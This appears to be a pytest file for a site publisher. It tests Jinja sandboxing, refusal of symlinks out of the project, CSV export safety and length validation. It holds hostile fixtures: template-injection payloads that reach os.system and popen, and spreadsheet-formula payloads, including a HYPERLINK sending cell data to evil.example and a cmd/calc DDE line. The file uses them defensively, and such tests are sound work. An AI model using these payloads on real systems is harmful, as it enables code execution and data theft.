@pytest.mark.parametrize(
    "attack",
    [
        "{{ site.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.system('touch {marker}') }}",
        "{{ lipsum.__globals__['os'].popen('touch {marker}').read() }}",
        "{{ self._TemplateReference__context }}",
        "{{ '{0.__class__.__base__.__subclasses__}'.format(site) }}",
        "{% set _ = items.append('injected') %}",
        "{% set _ = settings.update(title='injected') %}",
        "{{ items.pop() }}{{ settings.clear() }}",
    ],
)
def test_templates_run_sandboxed_and_cannot_reach_python_or_change_data(
    tmp_path: Path, attack: str
) -> None:
    from publisher.errors import TemplateError
    from publisher.model import Site
    from publisher.render import render_template, template_environment

    marker = tmp_path / "pwned"
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "hostile.html.j2").write_text(
        attack.replace("{marker}", str(marker)), encoding="utf-8"
    )
    items, settings = ["kept"], {"title": "kept"}
    site = Site(title="T", base_url="https://example.org/")
    context = {"site": site, "items": items, "settings": settings}
    with pytest.raises(TemplateError) as raised:
        render_template(template_environment(templates), "hostile.html.j2", context)
    assert "hostile.html.j2" in str(raised.value)
    assert "unsafe" in str(raised.value)
    assert not marker.exists()
    assert items == ["kept"]
    assert settings == {"title": "kept"}


def test_a_hostile_project_template_fails_the_build_cleanly(root: Path) -> None:
    templates = root / "templates" / "feed"
    templates.mkdir(parents=True)
    (templates / "entry.html.j2").write_text(
        "{{ resource.__class__.__init__.__globals__ }}\n", encoding="utf-8"
    )
    result = run(root, "build")
    assert result.exit_code == 1, result.output
    assert "templates/feed/entry.html.j2:1: " in result.output
    assert "unsafe" in result.output
    assert "Traceback" not in result.output
    assert not (root / "feeds").exists()


# The default subject.txt.j2 before templates ran in the immutable sandbox: projects copied it.
OLD_DEFAULT_SUBJECT = """\
{#- The Subject line (one line; line breaks are removed). counts: added, updated, removed. -#}
{%- set parts = [] -%}
{%- if counts.added %}{% set _ = parts.append(counts.added ~ " new") %}{% endif -%}
{%- if counts.updated %}{% set _ = parts.append(counts.updated ~ " updated") %}{% endif -%}
{%- if counts.removed %}{% set _ = parts.append(counts.removed ~ " removed") %}{% endif -%}
{{ site.title }} {{ release.version }}: {{ parts | join(", ") }}
"""


def test_a_template_copied_from_the_old_appending_default_names_its_file_and_line(
    root: Path,
) -> None:
    from publisher.errors import TemplateError
    from publisher.mail import ChangeCounts
    from publisher.model import Site
    from publisher.render import render_template, template_environment

    templates = root / "templates"
    (templates / "email").mkdir(parents=True)
    (templates / "email" / "subject.txt.j2").write_text(OLD_DEFAULT_SUBJECT, encoding="utf-8")
    context = {
        "site": Site(title="T", base_url="https://example.org/"),
        "release": {"version": "2024.01"},
        "counts": ChangeCounts(added=2, updated=0, removed=1),
    }
    with pytest.raises(TemplateError) as raised:
        render_template(template_environment(templates), "email/subject.txt.j2", context)
    message = str(raised.value)
    assert f"{templates / 'email' / 'subject.txt.j2'}:3: " in message
    assert "'append' of 'list' object is unsafe" in message
    assert "build it whole" in message


def test_a_sandbox_violation_in_an_included_template_names_that_file_and_line(
    root: Path,
) -> None:
    templates = root / "templates" / "feed"
    templates.mkdir(parents=True)
    shutil.copy(
        Path(__file__).parent.parent / "templates" / "feed" / "entry.html.j2",
        templates / "entry.html.j2",
    )
    with (templates / "entry.html.j2").open("a", encoding="utf-8") as entry:
        entry.write("{% include 'feed/tally.html.j2' %}\n")
    (templates / "tally.html.j2").write_text(
        "{% set seen = [] %}\n\n{% set _ = seen.append(1) %}{{ seen }}\n", encoding="utf-8"
    )
    result = run(root, "build")
    assert result.exit_code == 1, result.output
    assert "templates/feed/tally.html.j2:3: " in result.output
    assert "'append' of 'list' object is unsafe" in result.output
    assert "Traceback" not in result.output
    assert not (root / "feeds").exists()


@pytest.mark.parametrize("link", ["file", "folder"])
def test_item3_a_template_symlinked_out_of_the_project_is_refused_unread(
    root: Path, outside: Path, link: str
) -> None:
    """page.css is included in the page as written: a link to a secret would publish it."""
    (outside / "page").mkdir()
    secret = outside / "page" / "page.css"
    secret.write_text("root:secret-hash:19000\n", encoding="utf-8")
    if link == "file":
        (root / "templates" / "page").mkdir(parents=True)
        (root / "templates" / "page" / "page.css").symlink_to(secret)
    else:
        (root / "templates").symlink_to(outside, target_is_directory=True)
    result = run(root, "build")
    assert result.exit_code == 1, result.output
    assert "templates/page/page.css: is a symbolic link to a file outside the project" in (
        result.output
    )
    assert "secret-hash" not in result.output
    assert "Traceback" not in result.output
    assert not (root / "feeds").exists()


def test_item3_a_template_symlinked_inside_the_project_is_read(root: Path) -> None:
    (root / "styles").mkdir()
    (root / "styles" / "site.css").write_text("body { color: #123456 }\n", encoding="utf-8")
    (root / "templates" / "page").mkdir(parents=True)
    (root / "templates" / "page" / "page.css").symlink_to(root / "styles" / "site.css")
    result = run(root, "build")
    assert result.exit_code == 0, result.output
    assert "#123456" in (root / "feeds" / "index.html").read_text(encoding="utf-8")


# --- CSV injection: the subscriber export opens safely in a spreadsheet ---------------------


def test_subscriber_export_never_hands_a_spreadsheet_a_formula(root: Path) -> None:
    import csv
    import io

    from publisher.subscribers import parse_subscribers

    # A name typed into `publisher serve`'s subscribe form reaches the export as it was typed.
    people = {
        "-2+3@example.org": '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
        "ann@example.org": "'=typed with its apostrophe",
        "bob@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
        "cy@example.org": "+Cy",
        "di@example.org": "Di O'Neil",
    }
    for address, name in people.items():
        added = run(root, "subscribers", "add", "--name", name, "--confirmed", "--", address)
        assert added.exit_code == 0, added.output
    exported = run(root, "subscribers", "export")
    assert exported.exit_code == 0, exported.output
    for row in csv.reader(io.StringIO(exported.output)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), row
    read_back = parse_subscribers(exported.output, label="export.csv", known_sections=frozenset())
    assert {person.address: person.name for person in read_back} == people


# --- item 13: names too long for a file name fail validate, not the build after it --------


@pytest.mark.parametrize(
    ("field", "expected"),
    [
        ("tags: [python, {long}]", "sections[0].resources[0].tags[1]: 300 characters"),
        ("id: {long}", "sections[0].id: its feed folder name would be 300 characters"),
        ("title: {long}", "sections[0].title: its feed folder name would be 300 characters"),
    ],
)
def test_item13_a_tag_or_section_too_long_for_a_folder_name_fails_validate(
    root: Path, field: str, expected: str
) -> None:
    """A 300-character tag passed validate and release, then build failed with 'File name
    too long' (a pull request that passes CI, then breaks the build on the main branch)."""
    long = "x" * 300
    line = field.format(long=long)
    section_line = line if field.startswith(("id", "title")) else "title: S"
    resource_line = line if field.startswith("tags") else "tags: [python]"
    write_working_copy(
        root,
        f"title: T\nsections:\n  - {section_line}\n"
        + ("    title: S\n" if field.startswith("id") else "")
        + "    resources:\n      - title: R\n        url: https://r.example.org/\n"
        f"        {resource_line}\n",
    )
    result = run(root, "validate")
    assert result.exit_code == 1, result.output
    assert f"data/roadmap.yaml: {expected}" in result.output
    assert "at most 100" in result.output
    assert long not in result.output  # never echoed whole
